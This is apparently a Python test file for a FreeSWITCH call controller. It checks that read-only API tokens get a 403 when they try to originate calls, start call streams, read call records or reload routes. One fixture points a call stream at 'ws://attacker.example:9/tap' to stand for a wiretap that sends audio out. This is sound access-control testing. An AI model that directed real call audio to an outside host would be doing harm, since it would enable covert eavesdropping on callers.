"""Scoped API tokens (issue 17, item 3): each operation requires one scope, shown in the OpenAPI document.

Attacks: a read-only token (a dashboard's, a softphone's) originates to a gateway, wiretaps a call through
``stream.url``, reads CDRs or reloads the routes. On 5939257 every token opened every operation.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import aiohttp

from controller.settings import SCOPES
from tests.controllerkit import RunningController, running_controller
from tests.fsemu import EmulatorConfig, FreeSwitchEmulator
from tests.fsemu.wire import Event

READER = "reader-token-0123456789abcdef"
OPERATOR = "operator-token-0123456789abcdef"


def _tokens(**named: tuple[str, list[str]]) -> dict[str, Any]:
    entries = [{"name": name, "token": token, "scopes": scopes} for name, (token, scopes) in named.items()]
    return {"tokens": entries}


async def _status(rc: RunningController, token: str, method: str, path: str, body: Any = None) -> int:
    async with (
        aiohttp.ClientSession(headers={"Authorization": f"Bearer {token}"}) as http,
        http.request(method, rc.base + path, json=body) as resp,
    ):
        return resp.status


def _acted(events: list[Event]) -> list[str | None]:
    # `show registrations` is the controller's own registration poll.
    return [e.get("API-Command") for e in events if e.name == "API" and e.get("API-Command") != "show"]


async def test_a_read_only_token_cannot_originate_wiretap_or_read_cdrs(tmp_path: Path) -> None:
    api = _tokens(reader=(READER, ["calls:read"]))
    async with (
        FreeSwitchEmulator(EmulatorConfig(temp_dir=tmp_path)) as fs,
        running_controller(fs, tmp_path, api=api) as rc,
    ):
        events: list[Event] = fs.record_events()
        gateway = {"target": "gateway", "gateway": "carrier", "destination": "15551234"}
        originate = await _status(rc, READER, "POST", "/v1/calls", gateway)
        tap = {"action": "start", "url": "ws://attacker.example:9/tap"}
        wiretap = await _status(rc, READER, "POST", "/v1/calls/some-call/stream", tap)
        cdrs = await _status(rc, READER, "GET", "/v1/cdrs")
        reload = await _status(rc, READER, "POST", "/v1/routes/reload")
        listed = await _status(rc, READER, "GET", "/v1/calls")
    assert (originate, wiretap, cdrs, reload) == (403, 403, 403, 403)
    assert listed == 200
    assert _acted(events) == [], "a refused request reached FreeSWITCH"


async def test_every_operation_requires_its_scope_and_documents_it(tmp_path: Path) -> None:
    async with (
        FreeSwitchEmulator(EmulatorConfig(temp_dir=tmp_path)) as fs,
        running_controller(fs, tmp_path) as rc,
        rc.http.get(f"{rc.base}/openapi.json") as resp,
    ):
        paths = (await resp.json())["paths"]
    required: dict[str, str] = {}
    for path, operations in paths.items():
        for method, op in operations.items():
            if op.get("security"):
                scopes = {s for entry in op["security"] for s in next(iter(entry.values()))}
                assert len(scopes) == 1, (method, path, op["security"])
                assert scopes <= set(SCOPES), (method, path, op["security"])
                assert "403" in op["responses"], (method, path)
                required[f"{method.upper()} {path}"] = scopes.pop()
    assert len(required) > 20, required
    assert required["POST /v1/calls"] == "originate"
    assert required["POST /v1/calls/{id}/stream"] == "calls:write"
    assert required["GET /v1/cdrs"] == "cdrs:read"
    assert required["POST /v1/routes/reload"] == "admin"

    # A token holding every scope but the one required (and not admin) is refused with 403.
    def without(scope: str) -> tuple[str, list[str]]:
        return (
            f"{scope.replace(':', '-')}-less-0123456789abcdef",
            [s for s in SCOPES if s not in (scope, "admin")],
        )

    api = _tokens(**{f"no-{s.replace(':', '-')}": without(s) for s in SCOPES})
    async with (
        FreeSwitchEmulator(EmulatorConfig(temp_dir=tmp_path)) as fs,
        running_controller(fs, tmp_path, api=api) as rc,
    ):
        events: list[Event] = fs.record_events()
        statuses = {
            key: await _status(rc, without(scope)[0], *_request(key)) for key, scope in required.items()
        }
    assert set(statuses.values()) == {403}, {k: v for k, v in statuses.items() if v != 403}
    assert _acted(events) == [], "a refused request reached FreeSWITCH"


def _request(key: str) -> tuple[str, str, Any]:
    method, path = key.split(" ", 1)
    return method, re.sub(r"\{[^}]+\}", "x", path), {}
